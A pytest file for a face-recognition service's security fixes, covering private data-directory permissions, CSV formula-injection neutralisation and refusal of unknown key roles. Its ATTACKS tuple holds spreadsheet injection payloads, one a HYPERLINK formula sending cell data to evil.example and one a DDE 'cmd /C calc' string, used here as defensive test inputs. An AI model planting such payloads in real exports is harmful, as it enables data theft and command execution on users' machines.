"""Issue 15 hardening, on files: the data directory is private whatever the umask, a CSV export
cannot carry a spreadsheet formula, and `regard keys create` refuses unknown roles and profiles."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pytest

from regard import datadir
from regard.accountability.audit import (
    FORMULA_PREFIXES,
    AuditLog,
    export_text,
    neutralise_cell,
    sanitise_text,
)
from regard.accountability.policy import PolicyStore
from regard.accountability.review import Candidate, ReviewQueue
from regard.cli.main import main
from regard.face.engine import Engine
from regard.keys import KeyStore


@pytest.fixture()
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _modes(root: Path) -> dict[str, int]:
    out = {".": stat.S_IMODE(os.lstat(root).st_mode)}
    for p in root.rglob("*"):
        out[str(p.relative_to(root))] = stat.S_IMODE(os.lstat(p).st_mode)
    return out


def test_every_file_regard_creates_is_private_under_umask_022(
    tmp_path: Path,
    umask_022: None,
    engine: Engine,
    photos: dict[str, bytes],
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Finding 7: with umask 022 a plain open() makes files 0644; regard's data directory is 0700
    and every file it creates there 0600, created through the real code paths."""
    from regard.service import Service
    from regard.store.base import NewFace
    from regard.store.sqlite import SqliteStore
    from regard.types import Box

    d = tmp_path / "data"
    code = main(
        ["keys", "create", "--name", "k", "--profile", "admin", "--role", "admin", "--data-dir", str(d)]
    )
    capsys.readouterr()
    assert code == 0
    # A collection with a face from a photo, and enough templates for an HNSW index file.
    service = Service(SqliteStore(d, ann_min_faces=10), engine)
    service.create_collection("staff")
    assert service.index_faces("staff", photos["obama"], external_image_id="o").face_records
    vectors = (np.random.default_rng(3).standard_normal((20, 128)) * 0.09).astype(np.float32)
    service.add_templates(
        "staff",
        [
            NewFace(str(uuid.uuid4()), str(uuid.uuid4()), f"p{i}", Box(0.1, 0.1, 0.5, 0.5), 99.0, v)
            for i, v in enumerate(vectors)
        ],
    )
    assert service.search_faces_by_vector("staff", vectors[0], face_match_threshold=0, max_faces=1)
    # The policy (written with its defaults, then changed), the review queue, the audit log.
    policies = PolicyStore(d)
    policies.set("verification", "burst", "41")
    ReviewQueue(d).add(
        request_id="r",
        requester_key=None,
        requester_principal="local:t",
        collection_id="staff",
        operation="SearchFacesByImage",
        candidates=[Candidate("f", None, "o", 99.0, 1e-6)],
        purpose="p",
        case_reference="c",
    )
    log = AuditLog(d)
    log.append({"kind": "admin", "operation": "Test", "outcome": "success"})
    # Pruning (as if in 2100) writes the anchor and rewrites the log through temporary files.
    assert log.prune(datetime(2099, 1, 1, tzinfo=UTC), actor="t", now=datetime(2100, 1, 1, tzinfo=UTC)) > 0
    open_modes = _modes(d)  # the store's -wal and -shm exist while it is open
    assert "regard.db-wal" in open_modes and "regard.db-shm" in open_modes, sorted(open_modes)
    service.close()  # saves the HNSW index file
    modes = {**open_modes, **_modes(d)}
    for name in (
        "regard.db",
        "keys.sqlite3",
        "master.key",
        "review.sqlite3",
        "policy.toml",
        "audit/audit.jsonl",
        "audit/audit.lock",
        "audit/anchor.json",
    ):
        assert name in modes, f"{name} was not created: {sorted(modes)}"
    assert any(n.startswith("index/") and n.endswith(".hnsw") for n in modes), sorted(modes)
    for name, mode in modes.items():
        is_dir = name in {".", "audit", "index"}
        assert mode == (0o700 if is_dir else 0o600), f"{name}: {mode:o}"


def test_start_up_check_makes_a_loose_data_directory_private_and_logs_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The start-up check (fix and log): an older data directory with 0755/0644 modes is made
    private when the key store opens it, one warning per path changed."""
    d = tmp_path / "data"
    (d / "index").mkdir(parents=True)
    (d / "regard.db").write_bytes(b"")
    (d / "index" / "1-1.hnsw").write_bytes(b"x")
    os.chmod(d, 0o755)
    os.chmod(d / "index", 0o755)
    os.chmod(d / "regard.db", 0o644)
    os.chmod(d / "index" / "1-1.hnsw", 0o644)
    os.symlink("/etc/hostname", d / "index" / "link")  # never followed or changed
    (d / "notes.txt").write_text("not regard's")
    os.chmod(d / "notes.txt", 0o644)  # not regard's: left alone
    with caplog.at_level(logging.WARNING, logger="regard.datadir"):
        KeyStore(d)
    modes = _modes(d)
    assert modes["."] == 0o700 and modes["index"] == 0o700
    assert modes["regard.db"] == 0o600 and modes["index/1-1.hnsw"] == 0o600
    warned = [r.getMessage() for r in caplog.records]
    assert len(warned) == 4 and all("made private" in m for m in warned), warned
    assert modes["notes.txt"] == 0o644
    assert datadir.secure(d) == []  # nothing left to change


# -- finding 13: CSV formula injection ---------------------------------------------------------

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    """A refused, unauthenticated request's X-Amz-Target (and any other string a caller chose)
    reaches the log; exported to CSV, no cell may start with a formula character."""
    log = AuditLog(tmp_path)
    for text in ATTACKS:
        log.append(
            {
                "kind": "access",
                "operation": text,
                "principal": text,
                "purpose": text,
                "collection": text,
                "error": {"code": "MissingAuthenticationTokenException", "message": text},
                "outcome": "error",
            }
        )
    rows = list(csv.reader(io.StringIO(export_text(log, "csv"))))
    assert len(rows) == 1 + len(ATTACKS)
    header = rows[0]
    # The log escapes control characters (a leading tab or CR is recorded as the text \\u0009...).
    recorded = [sanitise_text(text) for text in ATTACKS]
    for row, text in zip(rows[1:], recorded, strict=True):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
        record = dict(zip(header, row, strict=True))
        assert record["operation"] == neutralise_cell(text)
    # The JSON lines export keeps the values as they were recorded.
    assert [r["operation"] for r in log.records()] == recorded


# -- finding 15 (part): unknown roles and profiles ---------------------------------------------


@pytest.mark.parametrize(
    ("option", "value", "named"),
    [
        ("--role", "superuser", ("admin", "operator", "verifier")),
        ("--profile", "god-mode", ("admin", "identification", "verification")),
    ],
)
def test_keys_create_refuses_unknown_roles_and_profiles(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, value: str, named: tuple[str, ...]
) -> None:
    d = str(tmp_path)
    code = main(["keys", "create", "--name", "x", option, value, "--data-dir", d])
    _, err = capsys.readouterr()
    assert code == 2
    assert value in err and all(n in err for n in named), err
    assert KeyStore(tmp_path).list() == []
    assert [r["operation"] for r in AuditLog(tmp_path).records()] == []


def test_keys_create_accepts_a_profile_policy_toml_defines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = PolicyStore(tmp_path)
    store.load()
    text = store.path.read_text() + '\n[profiles.kiosk]\noperations = ["DetectFaces"]\n'
    store.path.write_text(text)
    code = main(["keys", "create", "--name", "x", "--profile", "kiosk", "--data-dir", str(tmp_path)])
    capsys.readouterr()
    assert code == 0
    assert [k.profile for k in KeyStore(tmp_path).list()] == ["kiosk"]
